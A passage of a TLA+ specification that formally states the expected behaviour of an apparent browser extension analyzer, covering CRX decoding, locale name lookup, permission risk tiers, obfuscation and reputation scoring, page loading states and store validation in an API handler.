       /\ HighBits(bytes, 8) = 0 /\ 12 + LowBits(bytes, 8) < Len(bytes)
    \/ /\ DeclaresVersion(bytes, 2)
       /\ HighBits(bytes, 8) = 0 /\ HighBits(bytes, 12) = 0
       /\ 16 + LowBits(bytes, 8) + LowBits(bytes, 12) < Len(bytes)

\* C20: the decoder strips bytes only when 0 < offset < length: a buffer
\* with the magic whose version is neither 2 nor 3, or whose offset is the
\* length or more (a sum of lengths past 2^32 - 1 is not wrapped), is
\* passed on as it is.
C20_OffsetAppliedOnlyInside ==
    pc # "decode" /\ CarriesMagic(InputBytes) /\ error # "RangeError" =>
        /\ data # InputBytes => OffsetInside(InputBytes)
        /\ ~OffsetInside(InputBytes) => data = InputBytes
        /\ \A version \in {0, 1, 4} : DeclaresVersion(InputBytes, version) => data = InputBytes

\* A version 2 buffer of 19 bytes with a key length of 2^32 - 1 and a
\* signature length of 3, whose sum with 16 is 18 modulo 2^32, passed on as
\* it is.
C20_Witness ==
    /\ pc # "decode" /\ error # "RangeError"
    /\ DeclaresVersion(InputBytes, 2) /\ Len(InputBytes) = 19
    /\ SubSeq(InputBytes, 9, 16) = <<255, 255, 255, 255, 3, 0, 0, 0>>
    /\ data = InputBytes

(* resolveLocaleString *)

\* The key of a placeholder __MSG_key__.
PlaceholderKey(text) == SubSeq(text, 7, Len(text) - 2)

\* The message a locale file has for a key, as an optional value: none when
\* the file cannot be read, is no JSON, or has no message that is not empty.
MessageOf(entry, key) ==
    LET Given(messages) ==
            IF messages.ok /\ messages.value.t = "obj"
               /\ Get(messages.value, key).t = "obj"
               /\ Truthy(Get(Get(messages.value, key), "message"))
            THEN <<Get(Get(messages.value, key), "message")>>
            ELSE <<>>
    IN  IF entry.unreadable THEN <<>> ELSE Given(JsonParse(entry.text))

\* The locale files of the archive in the order of the chain: that of the
\* default locale of the manifest ("en" when it names none), those of en,
\* en_US and en_GB, then every _locales/*/messages.json of the archive.
LocaleChain ==
    LET declared == Get(manifest[1], "default_locale")
        defaultLocale == IF declared.t = "str" /\ declared.v # "" THEN declared.v ELSE "en"
        Of(locale) == SelectSeq(zip, LAMBDA e : e.name = "_locales/" \o locale \o "/messages.json")
    IN  Of(defaultLocale) \o Of("en") \o Of("en_US") \o Of("en_GB")
        \o SelectSeq(zip, LAMBDA e : StartsWith(e.name, "_locales/") /\ EndsWith(e.name, "/messages.json"))

DeclaredName ==
    IF Truthy(Get(manifest[1], "name")) THEN Get(manifest[1], "name") ELSE Str("Unknown")

\* C22: locale files are consulted only for a name that begins with __MSG_
\* and ends with __, under the key that is the name without that prefix and
\* that suffix; any other name is the name of the result as it stands.
C22_LookupOnlyForPlaceholders ==
    pc = "icon" =>
        LET text == DeclaredName.v
            key == PlaceholderKey(text)
            defining == SelectSeq(LocaleChain, LAMBDA e : MessageOf(e, key) # <<>>)
        IN  name[1] = IF StartsWith(text, "__MSG_") /\ EndsWith(text, "__") /\ Len(text) >= 8
                         /\ defining # <<>>
                      THEN MessageOf(defining[1], key)[1]
                      ELSE DeclaredName

\* C23: a permission that is no key of the lookup table is High, with a
\* description naming it, when it contains "://", and otherwise Low with the
\* description "Standard extension permission."; the risk of every finding
\* is one of the four tiers.
C23_PermissionsOutsideTheTable ==
    Returned("analyzePermissions") =>
        \A i \in DOMAIN ret[1] :
            LET finding == ret[1][i]
            IN  /\ finding.risk \in {"Low", "Medium", "High", "Critical"}
                /\ finding.permission \notin DOMAIN PERMISSION_MAPPING =>
                       IF Includes(finding.permission, "://")
                       THEN /\ finding.risk = "High"
                            /\ Includes(finding.description, finding.permission)
                       ELSE /\ finding.risk = "Low"
                            /\ finding.description = "Standard extension permission."

(* analyzeSourceCode *)

\* The .js entries of the archive read.
Scripts == SelectSeq(zip, LAMBDA e : EndsWith(e.name, ".js"))

\* An obfuscator's signature is in some script.
Sticky == \E i \in DOMAIN Scripts : HasObfuscatorSignature(Scripts[i].text)

\* The number of heuristic signals that fire on scripts: their mean entropy
\* above 5.5 bits, and more than a fifth of them with many long lines, or
\* with many short identifiers.
SignalsOf(scripts) ==
    LET n == Len(scripts)
        RECURSIVE Entropy(_)
        Entropy(k) == IF k = 0 THEN 0 ELSE CalculateEntropy(scripts[k].text) + Entropy(k - 1)
        Share(count) == IF n > 0 /\ 5 * count > n THEN 1 ELSE 0
        High(total) == IF n > 0 /\ 10 * total > 55 * Pow2(LogBits) * n THEN 1 ELSE 0
    IN  High(Entropy(n))
        + Share(Cardinality({i \in 1..n : HasManyLongLines(scripts[i].text)}))
        + Share(Cardinality({i \in 1..n : HasSuspiciousIdentifiers(scripts[i].text)}))

\* The verdict claimed for a signature found or not and a number of signals.
ClaimedVerdict(sticky, signals) ==
    [isObfuscated |-> sticky \/ signals >= 2,
     obfuscationScore |-> IF sticky THEN 10 ELSE IF signals = 1 THEN 5 ELSE IF signals >= 2 THEN 10 ELSE 0]

\* C24: a result's isObfuscated is "signature found in some script, or two
\* signals or more", its obfuscationScore is 10 for a signature, else 5 for
\* one signal, 10 for two or more, 0 for none; a signature found in one
\* script stands whatever scripts follow; without scripts the result is
\* not obfuscated, with score 0.
C24_ObfuscationVerdict ==
    Returned("analyzeExtension") =>
        /\ [isObfuscated |-> ret[1].isObfuscated, obfuscationScore |-> ret[1].obfuscationScore]
               = ClaimedVerdict(Sticky, SignalsOf(Scripts))
        /\ Scripts = <<>> => ~ret[1].isObfuscated /\ ret[1].obfuscationScore = 0

\* One signal alone: score 5, not obfuscated.
C24_Witness ==
    /\ Returned("analyzeExtension")
    /\ ~Sticky
    /\ SignalsOf(Scripts) = 1
    /\ ret[1].obfuscationScore = 5
    /\ ~ret[1].isObfuscated

\* The elements of a sequence.
Members(seq) == {seq[i] : i \in DOMAIN seq}

\* What of a scan does not depend on the order of its lists.
Unordered(scanned) ==
    IF "error" \in DOMAIN scanned THEN scanned
    ELSE [apiCalls |-> Members(scanned.apiCalls), secrets |-> Members(scanned.secrets),
          dependencies |-> Members(scanned.dependencies),
          vulnerabilities |-> Members(scanned.vulnerabilities),
          isObfuscated |-> scanned.isObfuscated, obfuscationScore |-> scanned.obfuscationScore]

\* The archive of the catalog with the entries given, in its own order.
CatalogOrder(files) == Archives[CHOOSE k \in DOMAIN Archives : Members(Archives[k]) = Members(files)]

ClaimedRecency(lastUpdated, now) ==
    LET parsed == DateParse(lastUpdated)
        Within(periods) ==
            \/ now.day - parsed[1].day < 30 * periods
            \/ now.day - parsed[1].day = 30 * periods /\ now.ms < parsed[1].ms
    IN  IF lastUpdated = "" THEN 0
        ELSE IF parsed = <<>> THEN 5
        ELSE IF Within(6) THEN 15
        ELSE IF Within(12) THEN 10
        ELSE IF Within(24) THEN 5
        ELSE 0

\* A reputation whose other terms are all zero.
RecencyOnly(reputation) ==
    /\ reputation.rating = 0
    /\ reputation.ratingCount = 0
    /\ reputation.userCount \in {"0", ""}
    /\ ~reputation.isFeatured
    /\ ~reputation.isVerifiedPublisher

\* C26: the recency term is 15, 10, 5 or 0 points by the age of the update
\* in periods of 30 days (under 6, under 12, under 24, older), 5 points for
\* a lastUpdated that is no date, none for an empty one; a reputation with
\* nothing but a lastUpdated scores exactly that term, whatever the text.
C26_RecencyTerm ==
    fn = "calculateReputationScore" =>
        /\ \A now \in Times :
               RecencyPoints(args.reputation.lastUpdated, now) = ClaimedRecency(args.reputation.lastUpdated, now)
        /\ ret # <<>> /\ RecencyOnly(args.reputation) =>
               \E now \in Times : ret[1] = ClaimedRecency(args.reputation.lastUpdated, now)

\* A reputation with nothing but a lastUpdated that is no date scores 5.
C26_Witness ==
    /\ Returned("calculateReputationScore")
    /\ RecencyOnly(args.reputation)
    /\ args.reputation.lastUpdated = "recently"
    /\ ret[1] = 5

\* C27: in every result obfuscationScore is 0, 5 or 10, and isObfuscated is
\* true exactly when obfuscationScore is 10.
C27_ScoreAndFlagAgree ==
    Returned("analyzeExtension") =>
        /\ ret[1].obfuscationScore \in {0, 5, 10}
        /\ ret[1].isObfuscated <=> ret[1].obfuscationScore = 10

\* A signature in the first script and no signal: obfuscated, score 10.
C27_Witness ==
    /\ Returned("analyzeExtension")
    /\ Sticky
    /\ SignalsOf(Scripts) = 0
    /\ Len(Scripts) = 3
    /\ ret[1].isObfuscated
    /\ ret[1].obfuscationScore = 10

-----------------------------------------------------------------------------
(* The page component *)

\* A handler has begun an analysis; an analysis has ended.
Started == Cardinality(tasks') > Cardinality(tasks)

Ended == Cardinality(tasks') < Cardinality(tasks)

\* C28: an analysis begins only while loading is false, and its first step
\* sets loading and clears error; the handlers work only while loading is
\* true, one at a time, and while loading is true the URL typed cannot
\* change; however the analysis ends, loading becomes false again.
C28_LoadingBracketsAnalysis ==
    /\ [][Started => ~home.loading /\ home'.loading /\ home'.error = <<>>]_vars
    /\ [][home.loading => uploader'.url = uploader.url]_vars
    /\ [](tasks # {} => home.loading)
    /\ [](Cardinality(tasks) <= 1)
    /\ [][Ended => ~home'.loading]_vars
    /\ home.loading ~> ~home.loading

\* A download has failed: the error is shown and loading is false again.
C28_Witness ==
    /\ fn = "Home"
    /\ home.error = <<"Failed to download extension">>
    /\ ~home.loading
    /\ tasks = {}

\* C29: an analysis that ends either succeeds, storing its result and
\* leaving error clear, or fails, setting error and leaving the result
\* stored as it was; beginning an analysis clears error and leaves the
\* result; the result changes in no other step.
C29_ResultChangesOnlyOnSuccess ==
    [][/\ Ended => \/ home'.error # <<>> /\ home'.result = home.result
                   \/ home'.error = <<>> /\ home'.result # <<>>
       /\ Started => home'.error = <<>> /\ home'.result = home.result
       /\ home'.result # home.result => Ended /\ home'.error = <<>>]_vars

\* The first package was analysed, the second has failed: the page holds
\* the result of the first and the error of the second.
C29_Witness ==
    /\ fn = "Home"
    /\ home.result = <<[package |-> "a.crx", reputation |-> <<>>]>>
    /\ home.error = <<"manifest.json not found in extension">>
    /\ ~home.loading

\* C30: a request without id or store is answered with status 400; a request
\* whose store is neither 'chrome' nor 'edge' is answered with status 400 and
\* the error 'Invalid store', whether it asks for the package or for the
\* metadata, and the handler fetches nothing for it.
C30_InvalidStoreRejected ==
    fn = "GET" =>
        /\ (args.id = <<>> \/ args.store = <<>>) /\ ret # <<>> => ret[1].status = 400
        /\ (/\ args.id \notin {<<>>, <<"">>}
            /\ args.store \notin {<<>>, <<"">>, <<"chrome">>, <<"edge">>})
           => /\ proxy.fetched = <<>>
              /\ ret # <<>> => /\ ret[1].status = 400
                               /\ ret[1].body = Obj(<<"error">>, <<Str("Invalid store")>>)

=============================================================================
